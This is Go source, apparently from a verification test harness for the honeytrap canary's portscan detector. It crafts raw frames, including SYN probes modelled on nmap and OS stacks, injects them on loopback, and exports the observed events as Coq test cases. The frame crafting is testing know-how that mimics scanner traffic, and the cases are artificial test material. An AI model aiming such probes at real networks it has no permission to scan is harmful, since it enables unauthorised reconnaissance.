	for i := 0; i < 101; i++ {
		same = append(same, udp(1, 4000))
	}
	ins = append(ins, SInput{Probes: big, Ticks: T}, SInput{Probes: same, Ticks: T}, SInput{Probes: append(append([]Probe{}, same...), big...), Ticks: T})
	// all interleavings of small per-source bursts
	shapes := [][][]Probe{
		{{udp(0, 1000), udp(0, 1001)}, {udp(1, 1000), icmp(1)}},
		{{udp(0, 1000)}, {udp(1, 1001)}, {icmp(2)}},
		{{udp(0, 1000), udp(0, 1000)}, {udp(1, 7)}, {udp(2, 7)}},
		{{udp(0, 5), icmp(0), udp(0, 5)}, {icmp(1), udp(1, 6)}},
		{{udp(0, 1)}, {udp(1, 1)}, {udp(2, 1)}, {udp(3, 1)}},
		{{syn(0, 80, 20001), udp(0, 80)}, {syn(1, 80, 20001), icmp(1)}},
		// the same source against two addresses: the two bursts interleaved in every order
		{{at(udp(0, 1000), 0), at(udp(0, 1001), 0)}, {at(udp(0, 1000), 1), at(udp(0, 7), 1)}},
		{{at(icmp(0), 0), at(syn(0, 80, 20001), 0)}, {at(icmp(0), 2), at(syn(0, 81, 20002), 2)}, {at(udp(1, 9), 1)}},
	}
	if tier != "quick" {
		shapes = append(shapes,
			[][]Probe{{udp(0, 1), udp(0, 2), udp(0, 1)}, {udp(1, 1), udp(1, 2)}, {icmp(2)}},
			[][]Probe{{udp(0, 1), icmp(0)}, {udp(1, 1), icmp(1)}, {udp(2, 1), icmp(2)}},
			[][]Probe{{udp(0, 1), udp(0, 2)}, {udp(1, 3)}, {udp(2, 4)}, {udp(3, 5)}},
		)
	}
	for _, sh := range shapes {
		for _, il := range interleavings(sh) {
			ins = append(ins, SInput{Probes: il, Ticks: T})
		}
	}
	// through the real Start() receive loop: UDP/ICMP bursts, handler goroutines race
	nl := 16
	if tier != "quick" {
		nl = 48
	}
	for i := 0; i < nl; i++ {
		ns := r.PickInt([]int{1, 1, 2, 2, 2, 3, 4})
		protoOf := make([]string, ns)
		for j := range protoOf {
			protoOf[j] = r.PickStr([]string{"udp", "udp", "icmp"})
		}
		total := r.PickInt([]int{1, 2, 3, 5, 8, 20, 60, 150})
		var ps []Probe
		for j := 0; j < total; j++ {
			sidx := r.Intn(ns)
			dst := r.Intn(1 + i%len(allSensorIPs))
			if protoOf[sidx] == "udp" {
				p := udp(sidx, udpPorts[r.Intn(len(udpPorts))])
				p.Dst = dst
				p.SPort = r.PickInt([]int{0, 53, 5060, 40001})
				p.PLen = r.PickInt([]int{0, 1, 9})
				ps = append(ps, p)
			} else {
				p := icmp(sidx)
				p.Dst = dst
				p.PLen = r.PickInt([]int{0, 1, 2})
				ps = append(ps, p)
			}
		}
		ins = append(ins, SInput{Probes: ps, Ticks: T, Live: true})
	}
	// sampled: 1..4 sources, 1..150 probes, repeated ports, random interleaving
	n := 150
	if tier == "thorough" {
		n = 900
	} else if tier == "search" {
		n = 400
	}
	for i := 0; i < n; i++ {
		ns := r.Range(1, 4)
		total := r.PickInt([]int{1, 1, 2, 3, 4, 5, 6, 8, 10, 12, 16, 20, 30, 50, 100, 101, 150})
		if r.Chance(1, 3) {
			total = r.Range(1, 12)
		}
		var ps []Probe
		sport := 0
		nd := r.PickInt([]int{1, 2, 2, 3, 3}) // sensor addresses probed in this window
		d0 := r.Intn(len(allSensorIPs))
		for j := 0; j < total; j++ {
			p := genProbe(r, r.Intn(ns), &sport)
			p.Dst = (d0 + r.Intn(nd)) % len(allSensorIPs)
			ps = append(ps, p)
		}
		ins = append(ins, SInput{Probes: ps, Ticks: T})
	}
	return ins
}

func distScan(dist map[string]int, in SInput, ob SObs) {
	srcs := map[int]bool{}
	groups := map[string]bool{}
	for _, p := range in.Probes {
		srcs[p.Src] = true
		dist["probe:"+p.Proto]++
		if p.Proto != "tcp" {
			g := p.Proto
			groups[fmt.Sprintf("%d/%d/%s", p.Src, p.Dst, g)] = true
		}
	}
	dsts := map[int]bool{}
	for _, p := range in.Probes {
		dsts[p.Dst] = true
	}
	dist[fmt.Sprintf("sensor-addresses-probed:%d", len(dsts))]++
	dist[fmt.Sprintf("sources:%d", len(srcs))]++
	if in.Live {
		dist["through-receive-loop"]++
	}
	g := len(groups)
	if g > 5 {
		g = 5
	}
	dist[fmt.Sprintf("groups:%d", g)]++
	switch n := len(in.Probes); {
	case n <= 3:
		dist["burst:1-3"]++
	case n <= 20:
		dist["burst:4-20"]++
	case n <= 100:
		dist["burst:21-100"]++
	default:
		dist["burst:101-150"]++
	}
	for i, t := range ob.Ticks {
		if len(t) > 0 {
			dist[fmt.Sprintf("events-in-tick:%d", i+1)] += len(t)
		}
	}
}

func main() {
	enterNetns()
	o := hx.ParseArgs()
	r := hx.NewRand(o.Seed)

	// ---- replay of one case
	if o.Only != "" {
		var probe struct {
			NOps    int      `json:"nops"`
			Probes  []Probe  `json:"probes"`
			Frames  []hx.B   `json:"frames"`
			Queue   bool     `json:"queue"`
			Windows [][]hx.B `json:"windows"`
		}
		if err := hx.LoadReplay(o.Only, &probe); err != nil {
			hx.Fatal("replay: %v", err)
		}
		if len(probe.Windows) > 0 {
			var in WInput
			hx.LoadReplay(o.Only, &in)
			ob, crash := runWindowsRetry(in)
			hx.Write(o, "C20", "window", windowHeader, "wcase", []hx.Case{{ID: 0, Kind: "windows", Input: in, Obs: ob, Crash: crash, Coq: windowCoq(0, in, ob)}}, map[string]int{"replay": 1}, nil, 8)
		} else if probe.Queue {
			var in QInput
			hx.LoadReplay(o.Only, &in)
			oneDestination(in.Gate)
			oneDestination(in.Burst)
			ob, crash := runQueueRetry(in)
			hx.Write(o, "C20", "queue", queueHeader, "qcase", []hx.Case{{ID: 0, Kind: "queue", Input: in, Obs: ob, Crash: crash, Coq: queueCoq(0, in, ob)}}, map[string]int{"replay": 1}, nil, 8)
		} else if len(probe.Frames) > 0 {
			var in FInput
			hx.LoadReplay(o.Only, &in)
			if in.Ticks == 0 {
				in.Ticks = 3
			}
			ob, crash := runFramesRetry(in)
			hx.Write(o, "C20", "frame", frameHeader, "fcase", []hx.Case{{ID: 0, Kind: "frames", Input: in, Obs: ob, Crash: crash, Coq: frameCoq(0, in, ob)}}, map[string]int{"replay": 1}, nil, 8)
		} else if probe.NOps > 0 {
			var in UInput
			hx.LoadReplay(o.Only, &in)
			hx.Write(o, "C20", "uset", usetHeader, "ucase", []hx.Case{usetCase(0, in)}, map[string]int{"replay": 1}, nil, 8)
		} else {
			var in SInput
			hx.LoadReplay(o.Only, &in)
			if in.Ticks == 0 {
				in.Ticks = 3
			}
			oneDestination(in.Probes)
			ob, crash := runScanRetry(in)
			kind := "scan"
			if in.Live {
				kind = "scan-live"
			}
			hx.Write(o, "C20", "scan", scanHeader, "scase", []hx.Case{{ID: 0, Kind: kind, Input: in, Obs: ob, Crash: crash, Coq: scanCoq(0, in, ob)}}, map[string]int{"replay": 1}, nil, 50)
		}
		return
	}

	// ---- scan part: one batch of parallel scenarios per 300 inputs (started first: it waits)
	skippedMulti := 0
	sins := scanInputs(r, o.Tier)
	for i := range sins {
		if oneDestination(sins[i].Probes) {
			skippedMulti++
		}
	}
	sobs := make([]SObs, len(sins))
	scr := make([]string, len(sins))
	fins := frameInputs(r, o.Tier)
	fobs := make([]SObs, len(fins))
	fcr := make([]string, len(fins))
	frameDone := make(chan struct{})
	go func() {
		var wg sync.WaitGroup
		for i := range fins {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				fobs[i], fcr[i] = runFramesRetry(fins[i])
			}(i)
		}
		wg.Wait()
		close(frameDone)
	}()
	qins := queueInputs(r, o.Tier)
	skippedMultiQ := 0
	for i := range qins {
		a, b := oneDestination(qins[i].Gate), oneDestination(qins[i].Burst)
		if a || b {
			skippedMultiQ++
		}
	}
	qobs := make([]QObs, len(qins))
	qcr := make([]string, len(qins))
	queueDone := make(chan struct{})
	go func() {
		var wg sync.WaitGroup
		for i := range qins {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				qobs[i], qcr[i] = runQueueRetry(qins[i])
			}(i)
		}
		wg.Wait()
		close(queueDone)
	}()
	wins := windowInputs(r, o.Tier)
	wobs := make([]WObs, len(wins))
	wcr := make([]string, len(wins))
	windowDone := make(chan struct{})
	go func() {
		var wg sync.WaitGroup
		for i := range wins {
			wg.Add(1)
			go func(i int) {
				defer wg.Done()
				wobs[i], wcr[i] = runWindowsRetry(wins[i])
			}(i)
		}
		wg.Wait()
		close(windowDone)
	}()
	scanDone := make(chan struct{})
	go func() {
		const batch = 320
		for lo := 0; lo < len(sins); lo += batch {
			hi := lo + batch
			if hi > len(sins) {
				hi = len(sins)
			}
			var wg sync.WaitGroup
			for i := lo; i < hi; i++ {
				wg.Add(1)
				go func(i int) {
					defer wg.Done()
					sobs[i], scr[i] = runScanRetry(sins[i])
				}(i)
			}
			wg.Wait()
		}
		close(scanDone)
	}()

	// ---- uset part (meanwhile)
	udist := map[string]int{}
	var ucases []hx.Case
	uins := usetInputs(7, 6, 3)
	if o.Tier != "quick" {
		for _, in := range usetInputs(10, 5, 2) {
			uins = append(uins, in)
		}
	}
	for i, in := range uins {
		c := usetCase(i, in)
		udist[fmt.Sprintf("trees:nops=%d,depth=%d", in.NOps, in.Depth)]++
		udist["sequences"] += c.Obs.(UObs).Nodes
		ucases = append(ucases, c)
	}
	per := (len(ucases) + 11) / 12
	hx.Write(o, "C20", "uset", usetHeader, "ucase", ucases, udist, map[string]interface{}{
		"ops": "0-2 add key, 3-5 remove representative of key (else a non-member), 6 each removing every visited element, 7-9 each removing visited elements of key",
		"obs": "result<<21 | Count<<18 | member ids base 8"}, per)

	<-scanDone
	sdist := map[string]int{}
	var scases []hx.Case
	for i, in := range sins {
		distScan(sdist, in, sobs[i])
		kind := "scan"
		if in.Live {
			kind = "scan-live"
		}
		scases = append(scases, hx.Case{ID: i, Kind: kind, Input: in, Obs: sobs[i], Crash: scr[i], Coq: scanCoq(i, in, sobs[i])})
	}
	extra := map[string]interface{}{"sensor": netnsNote, "sensor-addresses": fmt.Sprint(meIPs)}
	if len(sensorIPs) == 1 {
		sdist["multi-address-scenarios-skipped"] = skippedMulti
		sdist[netnsNote] = 1
	}
	hx.Write(o, "C20", "scan", scanHeader, "scase", scases, sdist, extra, (len(scases)+3)/4)

	<-frameDone
	fdist := map[string]int{}
	var fcases []hx.Case
	for i, in := range fins {
		fdist["frames:"+in.Class] += len(in.Frames)
		n := 0
		for _, t := range fobs[i].Ticks {
			n += len(t)
		}
		fdist["events:"+in.Class] += n
		fcases = append(fcases, hx.Case{ID: i, Kind: "frames", Input: in, Obs: fobs[i], Crash: fcr[i], Coq: frameCoq(i, in, fobs[i])})
	}
	if len(sensorIPs) == 1 {
		fdist["multi-address-scenarios-skipped"] = 1 // the block "one source against every sensor address"
		fdist[netnsNote] = 1
	}
	hx.Write(o, "C20", "frame", frameHeader, "fcase", fcases, fdist, extra, 2)

	<-windowDone
	wdist := map[string]int{}
	var wcases []hx.Case
	for i, in := range wins {
		wdist["windows:"+in.Class]++
		wdist[fmt.Sprintf("report-windows:%d", len(in.Windows))]++
		wcases = append(wcases, hx.Case{ID: i, Kind: "windows", Input: in, Obs: wobs[i], Crash: wcr[i], Coq: windowCoq(i, in, wobs[i])})
	}
	hx.Write(o, "C20", "window", windowHeader, "wcase", wcases, wdist, extra, 1000)

	<-queueDone
	qdist := map[string]int{}
	var qcases []hx.Case
	for i, in := range qins {
		qdist["burst:"+in.Class]++
		qdist["senders-blocked-on-full-queue"] += qobs[i].Blocked
		qcases = append(qcases, hx.Case{ID: i, Kind: "queue", Input: in, Obs: qobs[i], Crash: qcr[i], Coq: queueCoq(i, in, qobs[i])})
	}
	if len(sensorIPs) == 1 {
		qdist["multi-address-scenarios-skipped"] = skippedMultiQ
		qdist[netnsNote] = 1
	}
	hx.Write(o, "C20", "queue", queueHeader, "qcase", qcases, qdist, extra, (len(qcases)+2)/3)
}

const usetHeader = "From HT Require Import Common.Bytes C20.Model C20.Check.\nImport C20.Check.U."
const scanHeader = "From HT Require Import Common.Bytes C20.Model C20.Check.\nImport C20.Check.S."
