// C20 harness, part "window": several report windows on one canary - burst, wait for its
// report, next burst re-using the same source addresses and (source, destination) ports, with
// scanners that answer the SYN-ACK with RST and scanners that do not; and, within one burst,
// port pairs that mirror each other or collide under the state table's either-direction match.
package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

type WInput struct {
	Class   string   `json:"class"`
	Windows [][]hx.B `json:"windows"`
}

type WObs struct {
	Rounds [][]Ev `json:"rounds"` // the report round after each burst, then whatever follows
}

func wSyn(s [4]byte, dip [4]byte, sp, dp int, fl byte) []byte {
	return withSum(ipFrame(macA, macB, s, dip, 6, tcpSeg(sp, dp, 5, fl, nil)), true)
}

func windowInputs(r *hx.Rand, tier string) []WInput {
	var ins []WInput
	S1, S2 := [4]byte{12, 0, 0, 1}, [4]byte{12, 0, 0, 2}
	d := func(i int) [4]byte { return sensorIPs[i%len(sensorIPs)] }
	B := func(fs ...[]byte) []hx.B {
		var out []hx.B
		for _, f := range fs {
			out = append(out, hx.B(f))
		}
		return out
	}
	// a scanner with a fixed source port that never answers the SYN-ACK: the same burst in
	// two / three windows
	b1 := B(wSyn(S1, d(0), 53, 80, 2), wSyn(S1, d(0), 53, 443, 2), wSyn(S1, d(0), 53, 8080, 2), wSyn(S1, d(0), 53, 80, 2))
	ins = append(ins, WInput{Class: "fixed-source-port-no-rst-x2", Windows: [][]hx.B{b1, b1}})
	if tier != "quick" { // three windows take 25 s
		ins = append(ins, WInput{Class: "fixed-source-port-no-rst-x3", Windows: [][]hx.B{b1, b1, b1}})
	}
	// the same scanner answering every SYN-ACK with RST (record back to Listen)
	b2 := B(wSyn(S1, d(0), 53, 80, 2), wSyn(S1, d(0), 53, 80, 4), wSyn(S1, d(0), 53, 443, 2), wSyn(S1, d(0), 53, 443, 4))
	ins = append(ins, WInput{Class: "fixed-source-port-rst-x2", Windows: [][]hx.B{b2, b2}})
	// RST only in the first window, RST|ACK, and the SYN|ACK of a confused peer in the second
	b3 := B(wSyn(S1, d(0), 53, 80, 2), wSyn(S1, d(0), 53, 80, 20))
	b4 := B(wSyn(S1, d(0), 53, 80, 18), wSyn(S1, d(0), 53, 80, 2), wSyn(S2, d(0), 53, 80, 2))
	ins = append(ins, WInput{Class: "rst-then-synack-then-syn", Windows: [][]hx.B{b3, b4}})
	// mirrored and equal port pairs inside one burst, and swapped in the next window
	m1 := B(wSyn(S1, d(0), 40000, 80, 2), wSyn(S1, d(0), 80, 40000, 2), wSyn(S1, d(0), 7000, 7000, 2), wSyn(S1, d(0), 80, 7000, 2))
	m2 := B(wSyn(S1, d(0), 80, 40000, 2), wSyn(S1, d(0), 40000, 80, 2), wSyn(S1, d(0), 7000, 80, 2), wSyn(S1, d(0), 40000, 40000, 2))
	ins = append(ins, WInput{Class: "mirrored-port-pairs", Windows: [][]hx.B{m1, m2}})
	ins = append(ins, WInput{Class: "mirrored-port-pairs-one-burst", Windows: [][]hx.B{append(append([]hx.B{}, m1...), m2...)}})
	// all three protocols, two sources, two sensor addresses, repeated in three windows
	mix := B(
		ipFrame(macA, macB, S1, d(0), 17, udpSeg(53, 7, []byte("x"))), ipFrame(macA, macB, S1, d(1), 17, udpSeg(53, 7, nil)),
		ipFrame(macA, macB, S2, d(0), 1, icmpSeg(8, 8)), wSyn(S2, d(1), 1024, 22, 2), wSyn(S2, d(1), 1024, 23, 2),
		wSyn(S1, d(2), 23, 1024, 2), ipFrame(macA, macB, S1, d(0), 17, udpSeg(7, 53, nil)), ipFrame(macA, macB, S1, d(0), 17, udpSeg(7, 9, nil)))
	if tier != "quick" {
		ins = append(ins, WInput{Class: "mixed-protocols-x3", Windows: [][]hx.B{mix, mix, mix}})
	} else {
		ins = append(ins, WInput{Class: "mixed-protocols-x2", Windows: [][]hx.B{mix, mix}})
	}
	// sampled: ports drawn from one small pool for source and destination, 2..3 windows,
	// every window drawn independently or repeated
	n := 3
	if tier != "quick" {
		n = 20
	}
	pool := []int{80, 443, 40000, 53, 7000, 1}
	for k := 0; k < n; k++ {
		gen := func() []hx.B {
			var fs []hx.B
			for i, m := 0, r.Range(2, 10); i < m; i++ {
				s := [4]byte{12, 0, 1, byte(1 + r.Intn(2))}
				fl := byte(2)
				if r.Chance(1, 5) {
					fl = byte(r.PickInt([]int{4, 20, 18, 6, 3}))
				}
				fs = append(fs, hx.B(wSyn(s, d(r.Intn(3)), r.PickInt(pool), r.PickInt(pool), fl)))
			}
			// at least one probe that is certainly reported, so that the window has a report round
			fs = append(fs, hx.B(ipFrame(macA, macB, [4]byte{12, 0, 1, 9}, d(0), 1, icmpSeg(8, 8))))
			return fs
		}
		w1 := gen()
		ws := [][]hx.B{w1}
		m := 1
		if tier != "quick" {
			m = r.Range(1, 2)
		}
		for j := 0; j < m; j++ {
			if r.Bool() {
				ws = append(ws, w1)
			} else {
				ws = append(ws, gen())
			}
		}
		ins = append(ins, WInput{Class: "sampled-port-pool", Windows: ws})
	}
	return ins
}

func runWindows(in WInput) (ob WObs, crash string) {
	rec := newRecorder()
	var arp canary.ARPCache
	v, err := canary.NewVerifCanary("lo", arp, canary.RouteTable{}, rec)
	if err != nil {
		hx.Fatal("NewVerifCanary: %v", err)
	}
	defer v.Close()
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	v.StartKnockDetector(ctx)
	base := 0
	for i, w := range in.Windows {
		var gw gapWatch
		injectSem <- struct{}{}
		finished := watchdog(120*time.Second, func() { crash = injectFrames(FInput{Frames: w}, v, &gw) })
		marker := rec.scanLen()
		<-injectSem
		if !finished {
			return ob, "a handler blocked for 120 s"
		}
		if crash != "" {
			return ob, crash
		}
		if gw.stalled() {
			return ob, slowBurst
		}
		if marker > base {
			return ob, fmt.Sprintf("%d portscan event(s) while burst %d was being sent", marker-base, i+1)
		}
		if i == len(in.Windows)-1 {
			rounds, cr := collect(rec, base, marker, 2, "")
			ob.Rounds = append(ob.Rounds, rounds...)
			return ob, cr
		}
		// the report round of this burst: first event (at most ~12 s of scheduled time), then
		// one second without a further event
		waitQuiet(rec, marker, 12*time.Second, true)
		waitQuiet(rec, rec.scanLen(), time.Second, false)
		rec.mu.Lock()
		var round []Ev
		for _, e := range rec.scan[marker:] {
			round = append(round, e.ev)
		}
		base = len(rec.scan)
		rec.mu.Unlock()
		if round == nil {
			round = []Ev{}
		}
		ob.Rounds = append(ob.Rounds, round)
	}
	return ob, ""
}

// waitQuiet waits until `d` of scheduled time (50 ms steps, stalls discounted) passed without a
// new portscan event beyond `seen`; with untilEvent it returns as soon as one arrives.
func waitQuiet(rec *recorder, seen int, d time.Duration, untilEvent bool) {
	var quiet time.Duration
	for quiet < d {
		t := time.Now()
		time.Sleep(50 * time.Millisecond)
		dt := time.Since(t)
		if dt > 100*time.Millisecond {
			dt = 100 * time.Millisecond
		}
		quiet += dt
		if n := rec.scanLen(); n != seen {
			if untilEvent {
				return
			}
			seen, quiet = n, 0
		}
	}
}

func runWindowsRetry(in WInput) (ob WObs, crash string) {
	for attempt := 0; attempt < 4; attempt++ {
		ob, crash = runWindows(in)
		if crash != slowBurst {
			return ob, crash
		}
	}
	hx.Fatal("window scenario %s stalled four times in a row", in.Class)
	return
}

func windowCoq(id int, in WInput, ob WObs) string {
	var ws []string
	for _, w := range in.Windows {
		var fs []string
		for _, f := range w {
			fs = append(fs, hx.CoqBytes(f))
		}
		ws = append(ws, hx.CoqList(fs, "bytes"))
	}
	var me []string
	for _, m := range meIPs {
		me = append(me, fmt.Sprint(binary.BigEndian.Uint32(m[:])))
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "(mkW %d %s\n   %s\n   %s)%%N", id, hx.CoqList(me, "N"), hx.CoqList(ws, "(list bytes)"), coqTicks(SObs{Ticks: ob.Rounds}))
	return sb.String()
}

const windowHeader = "From HT Require Import Common.Bytes C20.Model C20.Check.\nImport C20.Check.S C20.Check.W."
