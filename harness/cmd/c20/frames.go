// C20 harness, part "frame": raw Ethernet frames, systematically at and around every decoder
// boundary and with every extracted field varied, through the real receive path
// (Inject -> ethernet/ipv4/udp/icmp/tcp decoders -> handleUDP/handleICMP/handleTCP -> detector).
// Every frame of a scenario comes from its own source address, so the portscan events show
// which frames were counted as probes and with which fields.
package main

import (
	"context"
	"encoding/binary"
	"fmt"
	"strings"
	"time"

	"github.com/honeytrap/honeytrap/listener/canary"
	"verif/harness/hx"
)

type FInput struct {
	Class  string `json:"class"`
	Frames []hx.B `json:"frames"`
	Ticks  int    `json:"ticks"`
}

type fgen struct {
	n      uint32
	frames []hx.B
}

// next source address 11.x.y.z, unique per frame
func (g *fgen) sip() [4]byte {
	g.n++
	return [4]byte{11, byte(g.n >> 16), byte(g.n >> 8), byte(g.n)}
}

var (
	macA = []byte{2, 0, 0, 0, 0, 0xa1}
	macB = []byte{2, 0, 0, 0, 0, 0xb2}
	macC = []byte{6, 0x11, 0x22, 0x33, 0x44, 0x55}
	macD = []byte{2, 0, 0, 0, 0, 0xd4}
	loIP = [4]byte{127, 0, 0, 1}
)

func ipFrame(dmac, smac []byte, sip, dip [4]byte, proto byte, l4 []byte) []byte {
	f := make([]byte, 0, 34+len(l4))
	f = append(f, dmac...)
	f = append(f, smac...)
	f = append(f, 0x08, 0x00)
	ip := make([]byte, 20)
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(20+len(l4)))
	ip[4], ip[5] = 0x12, 0x34
	ip[8] = 64
	ip[9] = proto
	copy(ip[12:], sip[:])
	copy(ip[16:], dip[:])
	f = append(f, ip...)
	return append(f, l4...)
}

func udpSeg(sport, dport int, payload []byte) []byte {
	b := make([]byte, 8+len(payload))
	binary.BigEndian.PutUint16(b[0:], uint16(sport))
	binary.BigEndian.PutUint16(b[2:], uint16(dport))
	binary.BigEndian.PutUint16(b[4:], uint16(len(b)))
	copy(b[8:], payload)
	return b
}

func icmpSeg(typ byte, n int) []byte {
	b := make([]byte, n)
	if n > 0 {
		b[0] = typ
	}
	for i := 4; i < n; i++ {
		b[i] = byte(0x30 + i)
	}
	return b
}

// tcpSeg: off = data offset nibble, opts = bytes after the fixed header (options + payload)
func tcpSeg(sport, dport int, off int, flags byte, rest []byte) []byte {
	b := make([]byte, 20+len(rest))
	binary.BigEndian.PutUint16(b[0:], uint16(sport))
	binary.BigEndian.PutUint16(b[2:], uint16(dport))
	binary.BigEndian.PutUint32(b[4:], 1000)
	b[12] = byte(off << 4)
	b[13] = flags
	binary.BigEndian.PutUint16(b[14:], 65535)
	copy(b[20:], rest)
	return b
}

// tcpSum as tcp.csum computes it
func tcpSum(d []byte, src, dst [4]byte) uint16 {
	c := uint32(src[0])<<8 + uint32(src[1]) + uint32(src[2])<<8 + uint32(src[3])
	c += uint32(dst[0])<<8 + uint32(dst[1]) + uint32(dst[2])<<8 + uint32(dst[3])
	c += 6 + uint32(len(d))
	for i := 0; i+1 < len(d); i += 2 {
		if i == 16 {
			continue
		}
		c += uint32(d[i])<<8 + uint32(d[i+1])
	}
	if len(d)%2 == 1 {
		c += uint32(d[len(d)-1]) << 8
	}
	for c>>16 > 0 {
		c = c&0xffff + c>>16
	}
	return ^uint16(c)
}

// withSum sets a valid (ok) or invalid TCP checksum in a complete frame
func withSum(f []byte, ok bool) []byte {
	if len(f) < 34+18 {
		return f
	}
	var s, d [4]byte
	copy(s[:], f[26:30])
	copy(d[:], f[30:34])
	tl := int(binary.BigEndian.Uint16(f[16:18]))
	end := 14 + tl
	if end > len(f) || tl < 20 {
		end = len(f)
	}
	seg := f[34:end]
	if len(seg) < 18 {
		return f
	}
	c := tcpSum(seg, s, d)
	if !ok {
		c ^= 0x5a5a
	}
	binary.BigEndian.PutUint16(seg[16:], c)
	return f
}

func (g *fgen) add(f []byte) { g.frames = append(g.frames, hx.B(append([]byte(nil), f...))) }

// everyCut adds the frame cut at every length from 14 up to its full length, and extended by 1
// and 2 trailing bytes; every variant from its own source address
func (g *fgen) everyCut(build func(sip [4]byte) []byte) {
	full := build(g.sip())
	for n := 14; n < len(full); n++ {
		g.add(build(g.sip())[:n])
	}
	g.add(full)
	g.add(append(build(g.sip()), 0xee))
	g.add(append(build(g.sip()), 0xee, 0xef))
}

var udpDec = []int{53, 123, 161, 162, 1900, 5060}

func classUDPPorts() FInput {
	g := &fgen{}
	sports := append(append([]int{}, udpDec...), 22, 0, 65535, 40000, 7)
	dports := append(append([]int{}, udpDec...), 22, 7, 0, 65535, 54, 1901, 5061, 160)
	for _, sp := range sports {
		for _, dp := range dports {
			g.add(ipFrame(macA, macB, g.sip(), loIP, 17, udpSeg(sp, dp, []byte("scan"))))
		}
	}
	return FInput{Class: "udp-ports", Frames: g.frames, Ticks: 3}
}

func classTCPPortsFlags() FInput {
	g := &fgen{}
	for _, sp := range []int{22, 53, 0, 65535, 40000, 80} {
		for _, dp := range []int{22, 80, 0, 65535, 53, 40000} {
			g.add(withSum(ipFrame(macA, macB, g.sip(), loIP, 6, tcpSeg(sp, dp, 5, 2, nil)), sp%2 == 0))
		}
	}
	for fl := 0; fl < 256; fl++ { // all flag bytes incl. the two ECN bits
		if fl >= 64 && fl%7 != 0 {
			continue
		}
		g.add(withSum(ipFrame(macA, macB, g.sip(), loIP, 6, tcpSeg(30000+fl, 8000+fl, 5, byte(fl), nil)), fl%3 != 0))
	}
	// SYNs as real scanners and stacks send them (valid checksum; the last option ends exactly
	// at the end of the header)
	for i, o := range [][]byte{
		{2, 4, 5, 0xb4}, // nmap -sS: MSS only
		{2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7},                // Linux connect()
		{2, 4, 5, 0xb4, 1, 3, 3, 8, 1, 1, 4, 2},                                         // Windows
		{2, 4, 5, 0xb4, 1, 3, 3, 6, 1, 1, 8, 10, 9, 9, 9, 9, 0, 0, 0, 0, 4, 2, 0, 0},    // macOS (ends with EOL padding)
		{2, 4, 2, 0x18, 1, 1, 4, 2},                                                     // MSS, NOP NOP, SACK permitted
		{3, 3, 7, 1}, {1, 1, 4, 2}, {8, 10, 1, 2, 3, 4, 5, 6, 7, 8, 1, 1}, {4, 2, 1, 1}, // single options + padding
	} {
		for _, ok := range []bool{true, false} {
			g.add(withSum(ipFrame(macA, macB, g.sip(), loIP, 6, tcpSeg(50000+i, 9000+i, 5+len(o)/4, 2, o)), ok))
		}
	}
	return FInput{Class: "tcp-ports-flags", Frames: g.frames, Ticks: 3}
}

func classLenUDPICMP() FInput {
	g := &fgen{}
	// raw cuts
	g.everyCut(func(s [4]byte) []byte { return ipFrame(macA, macB, s, loIP, 17, udpSeg(40000, 7, []byte("ab"))) })
	g.everyCut(func(s [4]byte) []byte { return ipFrame(macA, macB, s, loIP, 1, icmpSeg(8, 9)) })
	// consistent datagrams around the header lengths
	for n := 0; n <= 3; n++ {
		g.add(ipFrame(macA, macB, g.sip(), loIP, 17, udpSeg(40000, 9, make([]byte, n))))
	}
	for n := 0; n <= 10; n++ { // ICMP message of n bytes: 8 = echo without data
		for _, ty := range []byte{8, 0, 13} {
			g.add(ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(ty, n)))
		}
	}
	g.add(ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(8, 64)))
	for n := 0; n <= 9; n++ { // UDP segment of n bytes with the length field = n
		seg := make([]byte, n)
		if n >= 6 {
			binary.BigEndian.PutUint16(seg[2:], 7)
			binary.BigEndian.PutUint16(seg[4:], uint16(n))
		}
		g.add(ipFrame(macA, macB, g.sip(), loIP, 17, seg))
	}
	// UDP length field against the real length 12
	for _, l := range []int{0, 7, 8, 9, 11, 12, 13, 65535} {
		f := ipFrame(macA, macB, g.sip(), loIP, 17, udpSeg(40000, 7, []byte("scan")))
		binary.BigEndian.PutUint16(f[38:], uint16(l))
		g.add(f)
	}
	// IP total length field against the real 32 (UDP) / 28 (ICMP echo without data)
	for _, tl := range []int{0, 19, 20, 21, 27, 28, 29, 31, 32, 33, 65535} {
		f := ipFrame(macA, macB, g.sip(), loIP, 17, udpSeg(40000, 7, []byte("scan")))
		binary.BigEndian.PutUint16(f[16:], uint16(tl))
		g.add(f)
		f = ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(8, 8))
		binary.BigEndian.PutUint16(f[16:], uint16(tl))
		g.add(f)
		// the same with trailing bytes so that a larger total length is still inside the frame
		f = append(ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(8, 8)), 1, 2, 3, 4, 5, 6, 7, 8)
		binary.BigEndian.PutUint16(f[16:], uint16(tl))
		g.add(f)
	}
	// version / header length nibbles (options are not skipped by the decoder)
	for v := 0; v < 16; v++ {
		f := ipFrame(macA, macB, g.sip(), loIP, 17, udpSeg(40000, 7, []byte("scan")))
		f[14] = byte(4<<4 | v)
		g.add(f)
		f = ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(8, 8))
		f[14] = byte(v<<4 | 5)
		g.add(f)
		f = ipFrame(macA, macB, g.sip(), loIP, 1, icmpSeg(8, 40))
		f[14] = byte(4<<4 | v)
		g.add(f)
	}
	return FInput{Class: "lengths-udp-icmp", Frames: g.frames, Ticks: 3}
}

func classLenTCP() FInput {
	g := &fgen{}
	for _, ok := range []bool{true, false} {
		ok := ok
		g.everyCut(func(s [4]byte) []byte {
			return withSum(ipFrame(macA, macB, s, loIP, 6, tcpSeg(40000, 80, 6, 2, []byte{2, 4, 5, 0xb4, 'x'})), ok)
		})
		// segment lengths around 20 with consistent total length
		for n := 16; n <= 22; n++ {
			seg := tcpSeg(40000, 81, 5, 2, []byte{9, 9})[:n]
			g.add(withSum(ipFrame(macA, macB, g.sip(), loIP, 6, seg), ok))
		}
